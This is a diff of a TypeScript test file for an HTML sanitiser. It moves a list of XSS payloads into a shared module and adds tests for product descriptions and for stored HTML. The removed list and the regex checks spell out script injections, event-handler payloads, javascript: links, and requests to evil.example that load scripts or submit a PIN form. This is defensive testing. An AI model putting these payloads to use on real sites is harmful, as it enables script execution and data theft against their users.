@@ -1,6 +1,9 @@
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
-import { cleanHtml } from './clean-html.ts';
+import { descriptionHtml } from '#shared/content/html.ts';
+import { safeHtml } from '#shared/content/safe-html.ts';
+import { attacks } from '../../test-support/content/html-attacks.ts';
+import { cleanDescription, cleanHtml } from './clean-html.ts';
 
 describe('HTML written by staff keeps its allowed markup [T1]', () => {
   test.each([
@@ -20,54 +23,14 @@ describe('HTML written by staff keeps its allowed markup [T1]', () => {
   });
 });
 
-/** Known attacks with HTML: scripts, tracking pictures and unsafe links. */
-const attacks = [
-  '<script>alert(1)</script>',
-  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="https://evil.example/track.gif" alt="x">',
-  '<img src="/upload/../api/logout" alt="x">',
-  '<img src="javascript:alert(1)">',
-  '<svg onload=alert(1)><circle/></svg>',
-  '<svg><script>alert(1)</script></svg>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="  java\nscript:alert(1)">x</a>',
-  '<a href="jav&#x09;ascript:alert(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="//evil.example">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<p onclick="alert(1)" style="background:url(//evil.example)" class="x" id="root">x</p>',
-  '<iframe src="https://evil.example"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="x.swf"></object><embed src="x.swf">',
-  '<form action="https://evil.example"><input name="pin"><button>Go</button></form>',
-  '<style>@import url(//evil.example/x.css)</style>',
-  '<link rel="stylesheet" href="//evil.example/x.css">',
-  '<meta http-equiv="refresh" content="0;url=//evil.example">',
-  '<base href="https://evil.example/">',
-  '<video src=x onerror=alert(1)></video>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
-  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
-  '<template><img src=x onerror=alert(1)></template>',
-  '<<script>alert(1)//<</script>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<p title="x" onmouseover="alert(1)">x',
-  '<!--<img src="--><img src=x onerror=alert(1)//">',
-  '<![CDATA[<img src=x onerror=alert(1)>]]>',
-  '<a href="https://ok.example" ping="https://evil.example">x</a>',
-  '<img srcset="//evil.example/x 1x" src="/upload/a.webp">',
-];
-
 const isHarmless = (html: string) =>
   !/<\s*\/?\s*(?:script|svg|math|iframe|object|embed|form|input|button|style|link|meta|base|video|template|textarea|noscript)/i.test(
     html,
   ) &&
-  !/<[^>]*\s(?:on\w+|style|class|id|srcset|ping|srcdoc)\s*=/i.test(html) &&
-  !/(?:href|src)="\s*(?:javascript|data|vbscript|\/\/)/i.test(html) &&
-  !/src="(?!\/upload\/)/.test(html);
+  // Within a quoted value, such a word is no attribute.
+  !/<[^>]*\s(?:on\w+|style|class|id|srcset|ping|srcdoc)\s*=/i.test(html.replace(/="[^"]*"/g, '=""')) &&
+  !/<[^>]*(?:href|src)="\s*(?:javascript|data|vbscript|\/\/)/i.test(html) &&
+  !/<[^>]*src="(?!\/upload\/)/.test(html);
 
 describe('Scripts, external resources and forms are not stored [T1]', () => {
   test.each(attacks)('%j', (html) => {
@@ -91,5 +54,47 @@ describe('Scripts, external resources and forms are not stored [T1]', () => {
       }),
       { numRuns: 300, seed: 2026 },
     );
+  });
+});
+
+const tags = (html: string) => [...html.matchAll(/<\/?([a-z0-9]+)/gi)].map(([, tag]) => tag);
+
+describe('A product’s description is sanitised when it is stored [T1]', () => {
+  test('and keeps paragraphs, small headings, bold and italic text, lists, and links by https', () => {
+    const html =
+      '<h3>Taste</h3><p>Ripe <strong>mango</strong>,<br />cold <em>finish</em>.</p><h4>Inside</h4><ul><li>One</li></ul><ol><li>Two</li></ol>' +
+      '<p><a href="https://elsewhere.example/" target="_blank" rel="noopener noreferrer">Out</a> <a href="/delivery">In</a></p>';
+    expect(cleanDescription(html)).toBe(html);
+  });
+
+  test('but no picture, table, quote, underline or other link, whose words stay', () => {
+    expect(
+      cleanDescription(
+        '<h1>One</h1><b>B</b><i>I</i><u>U</u><blockquote>Q</blockquote><hr><img src="/upload/a.webp" alt="A"><table><tr><td>Cell</td></tr></table><a href="http://x.example">H</a><a href="mailto:x@mail.example">M</a>',
+      ),
+    ).toBe('<h3>One</h3><strong>B</strong><em>I</em>UQCellHM');
+  });
+
+  test('and a text without tags stays as it was typed', () => {
+    expect(cleanDescription(' Salt & vinegar, 5 < 6.\n\nServe cold.\n')).toBe(
+      'Salt & vinegar, 5 < 6.\n\nServe cold.',
+    );
+  });
+
+  test.each(attacks)('%j runs nothing and loads nothing', (html) => {
+    const clean = cleanDescription(html);
+    expect([clean, isHarmless(safeHtml(clean))]).toEqual([clean, true]);
+    expect(tags(safeHtml(clean)).filter((tag) => !descriptionHtml.tags.includes(tag as 'p'))).toEqual([]);
+    expect(cleanDescription(clean)).toBe(clean);
+  });
+});
+
+describe('Stored HTML of any age is checked again before it is shown [T1]', () => {
+  test.each(attacks)('%j, stored by mistake, runs nothing and loads nothing', (html) => {
+    expect([safeHtml(html), isHarmless(safeHtml(html))]).toEqual([safeHtml(html), true]);
+  });
+
+  test('and what the sanitiser stores is shown as it is', () => {
+    for (const html of attacks.map(cleanHtml)) if (/<[a-z]/.test(html)) expect(safeHtml(html)).toBe(html);
   });
 });
